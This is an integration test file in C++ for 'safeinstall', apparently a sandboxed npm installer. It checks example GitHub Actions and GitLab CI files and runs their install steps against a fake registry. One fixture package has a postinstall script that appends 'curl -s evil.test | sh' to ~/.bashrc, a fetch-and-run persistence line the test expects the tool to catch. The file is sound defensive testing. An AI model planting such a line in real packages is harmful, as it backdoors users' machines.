// examples/ci/: the GitHub Actions workflow and the GitLab CI file are parsed (yaml-cpp) and
// their structure checked, and every shell step that runs safeinstall is run as it is written,
// with bash, in a CI-like environment (CI=true, $GITHUB_STEP_SUMMARY a file, no terminal)
// against the loopback npm registry: the install passes and its SARIF and summary are
// written, and a hostile package fails the step with safeinstall's exit code.
#include <unistd.h>
#include <yaml-cpp/yaml.h>

#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/fake_internet.h"
#include "tests/support/npm_registry.h"

using namespace safeinstall::test;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

std::string example(const std::string& name) {
  return std::string(SAFEINSTALL_EXAMPLES_DIR) + "/ci/" + name;
}

bool runs_safeinstall(const std::string& script) {
  return script.find("\"$SAFEINSTALL\"") != std::string::npos &&
         script.find(" check") == std::string::npos;
}

// The GitHub workflow's `run:` steps that invoke safeinstall, in order.
std::vector<std::string> github_steps(const YAML::Node& workflow) {
  std::vector<std::string> steps;
  for (const auto& job : workflow["jobs"]) {
    for (const auto& step : job.second["steps"]) {
      if (!step["run"]) continue;
      auto script = step["run"].as<std::string>();
      if (runs_safeinstall(script)) steps.push_back(script);
    }
  }
  return steps;
}

// The GitLab jobs' `script:` lines that invoke safeinstall, in order.
std::vector<std::string> gitlab_steps(const YAML::Node& pipeline) {
  std::vector<std::string> steps;
  for (const auto& entry : pipeline) {
    if (!entry.second.IsMap() || !entry.second["script"]) continue;
    for (const auto& line : entry.second["script"]) {
      auto script = line.as<std::string>();
      if (runs_safeinstall(script)) steps.push_back(script);
    }
  }
  return steps;
}

std::vector<std::string> steps_of(const std::string& name) {
  YAML::Node doc = YAML::LoadFile(example(name));
  return name == "github-actions.yml" ? github_steps(doc) : gitlab_steps(doc);
}

const YAML::Node* step_using(const YAML::Node& steps, const std::string& action,
                             std::vector<YAML::Node>& keep) {
  for (const auto& step : steps) {
    if (step["uses"] && step["uses"].as<std::string>().rfind(action, 0) == 0) {
      keep.push_back(step);
      return &keep.back();
    }
  }
  return nullptr;
}

struct CiRun {
  RunResult result;
  std::string summary;  // $GITHUB_STEP_SUMMARY afterwards
};

// Each step with bash as GitHub runs a `run:` step (-eo pipefail), in the project, as the
// scenario's user inside the fake internet's world; the next step only when one passed.
CiRun run_steps(const Scenario& s, const FakeInternet& net, const std::vector<std::string>& steps) {
  std::string summary = s.root() + "/step-summary-" + std::to_string(::getpid()) + ".md";
  std::ofstream(summary).flush();
  REQUIRE(::chown(summary.c_str(), s.uid(), s.uid()) == 0);
  CiRun out;
  for (const auto& step : steps) {
    std::vector<std::string> bash{"/bin/bash", "--noprofile", "--norc", "-eo",
                                  "pipefail",  "-c",          step};
    if (s.who() == Who::Unprivileged) bash = as_user_argv(kUnprivilegedUid, bash);
    std::vector<std::string> argv = net.in_world(bash);
    RunOptions options;
    options.env_overrides = s.base_env();
    options.env_overrides.insert(options.env_overrides.end(), kCleanCiEnv.begin(),
                                 kCleanCiEnv.end());
    for (std::string entry :
         {"SAFEINSTALL=" + Installation::get().safeinstall, "GITHUB_STEP_SUMMARY=" + summary,
          std::string("GITHUB_ACTIONS=true"), std::string("GITLAB_CI=true"),
          std::string("npm_config_registry=http://registry.test/"),
          std::string("npm_config_audit=false")})
      options.env_overrides.push_back(entry);
    options.cwd = s.project();
    options.timeout = std::chrono::seconds(150);
    out.result = run(argv, options);
    UNSCOPED_INFO("step: " << step << "\nexit " << out.result.exit_code
                           << "\nstdout: " << out.result.out << "\nstderr: " << out.result.err);
    if (out.result.exit_code != 0) break;
  }
  out.summary = read_file(summary);
  return out;
}

// npm ci needs the lockfile: made by a first, ordinary sandboxed npm install.
void prepare_project(const Scenario& s, const std::string& package) {
  write_package_json(s, "\"" + package + "\":\"1.0.0\"");
  auto install = run_npm(s, {"install"});
  REQUIRE(install.exit_code() == 0);
  REQUIRE(in_project(s, "package-lock.json"));
  fs::remove_all(s.project() + "/node_modules");
}

}  // namespace

TEST_CASE("ci examples: the GitHub Actions workflow installs, uploads SARIF and fails on a hold",
          "[ci][examples]") {
  YAML::Node workflow = YAML::LoadFile(example("github-actions.yml"));
  REQUIRE(workflow["jobs"].IsMap());
  CHECK(workflow["permissions"]["security-events"].as<std::string>() == "write");
  CHECK(workflow["env"]["SAFEINSTALL"].as<std::string>().front() == '/');
  REQUIRE(workflow["jobs"].size() == 1);
  const YAML::Node job = workflow["jobs"].begin()->second;
  CHECK(job["container"]["image"].as<std::string>() == "debian:12");
  const YAML::Node steps = job["steps"];
  REQUIRE(steps.IsSequence());
  std::vector<YAML::Node> keep;
  CHECK(step_using(steps, "actions/checkout@", keep) != nullptr);
  const YAML::Node* upload = step_using(steps, "github/codeql-action/upload-sarif@", keep);
  REQUIRE(upload != nullptr);
  CHECK((*upload)["with"]["sarif_file"].as<std::string>() == "safeinstall.sarif");
  // Uploaded after a hold too: the step before it failed then.
  CHECK((*upload)["if"].as<std::string>().find("always()") != std::string::npos);
  // The set-up is the README's: scripts/setup.sh and the CMake build.
  bool builds = false;
  for (const auto& step : steps)
    if (step["run"] && step["run"].as<std::string>().find("scripts/setup.sh") != std::string::npos)
      builds = step["run"].as<std::string>().find("cmake --build") != std::string::npos;
  CHECK(builds);
  auto runs = github_steps(workflow);
  REQUIRE(runs.size() == 1);
  CHECK(runs[0].find("--sarif safeinstall.sarif") != std::string::npos);
  CHECK(runs[0].find("npm ci") != std::string::npos);
  // No `|| true` and no continue-on-error: the exit code fails the job.
  CHECK(runs[0].find("||") == std::string::npos);
  for (const auto& step : steps) CHECK_FALSE(step["continue-on-error"]);
}

TEST_CASE("ci examples: the GitLab CI job keeps SARIF, report and summary as artifacts",
          "[ci][examples]") {
  YAML::Node pipeline = YAML::LoadFile(example("gitlab-ci.yml"));
  CHECK(pipeline["variables"]["SAFEINSTALL"].as<std::string>().front() == '/');
  const YAML::Node job = pipeline["install"];
  REQUIRE(job.IsMap());
  CHECK(job["image"].as<std::string>() == "debian:12");
  CHECK(job["artifacts"]["when"].as<std::string>() == "always");
  std::vector<std::string> paths;
  for (const auto& p : job["artifacts"]["paths"]) paths.push_back(p.as<std::string>());
  CHECK(std::ranges::count(paths, "safeinstall.sarif") == 1);
  CHECK(std::ranges::count(paths, "safeinstall-summary.md") == 1);
  CHECK(std::ranges::count(paths, "safeinstall-report.json") == 1);
  CHECK_FALSE(job["allow_failure"]);
  auto runs = gitlab_steps(pipeline);
  REQUIRE(runs.size() == 1);
  CHECK(runs[0].find("--sarif safeinstall.sarif") != std::string::npos);
  CHECK(runs[0].find("--summary safeinstall-summary.md") != std::string::npos);
}

TEST_CASE("ci examples: the steps that run safeinstall work as written against a registry",
          "[ci][examples][npm]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  std::string name = GENERATE(std::string("github-actions.yml"), std::string("gitlab-ci.yml"));
  SKIP_UNLESS_INSTALL_TEST(who, "npm");
  FakeInternet net(SI_SINK_PATH);
  write_npm_registry(
      net.registry_root(), "http://registry.test/",
      {{.name = "ci-dep", .version = "1.0.0", .files = {{"index.js", "module.exports = 'dep';\n"}}},
       {.name = "ci-hostile",
        .version = "1.0.0",
        .scripts = {{"postinstall", "echo 'curl -s evil.test | sh' >> ~/.bashrc"}},
        .files = {{"index.js", "module.exports = 1;\n"}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  auto steps = steps_of(name);
  REQUIRE_FALSE(steps.empty());
  INFO(name);

  SECTION("a clean install passes, with its SARIF and summary") {
    prepare_project(s, "ci-dep");
    auto ci = run_steps(s, net, steps);
    CHECK(ci.result.exit_code == 0);
    CHECK(in_project(s, "node_modules/ci-dep/index.js"));
    REQUIRE(in_project(s, "safeinstall.sarif"));
    json sarif = json::parse(project_file(s, "safeinstall.sarif"));
    CHECK(sarif.at("version") == "2.1.0");
    CHECK(sarif.at("runs").at(0).at("results").empty());
    REQUIRE(in_project(s, "safeinstall-report.json"));
    CHECK(json::parse(project_file(s, "safeinstall-report.json")).at("verdict") == "promoted");
    std::string summary =
        name == "gitlab-ci.yml" ? project_file(s, "safeinstall-summary.md") : ci.summary;
    CHECK(contains(summary, "— promoted"));
  }
  SECTION("a hostile package fails the step with 121, its finding in the SARIF") {
    prepare_project(s, "ci-dep");
    write_package_json(s, "\"ci-dep\":\"1.0.0\",\"ci-hostile\":\"1.0.0\"");
    auto lock = run_npm(s, {"install", "--package-lock-only", "--ignore-scripts"});
    REQUIRE(lock.exit_code() == 0);
    auto ci = run_steps(s, net, steps);
    CHECK(ci.result.exit_code == kExitSuspicious);
    CHECK_FALSE(in_project(s, "node_modules/ci-hostile"));
    REQUIRE(in_project(s, "safeinstall.sarif"));
    json sarif = json::parse(project_file(s, "safeinstall.sarif"));
    bool persistence = false;
    for (const auto& r : sarif.at("runs").at(0).at("results"))
      persistence = persistence || r.at("ruleId") == "persistence";
    CHECK(persistence);
    std::string summary =
        name == "gitlab-ci.yml" ? project_file(s, "safeinstall-summary.md") : ci.summary;
    CHECK(contains(summary, "held as suspicious"));
  }
}
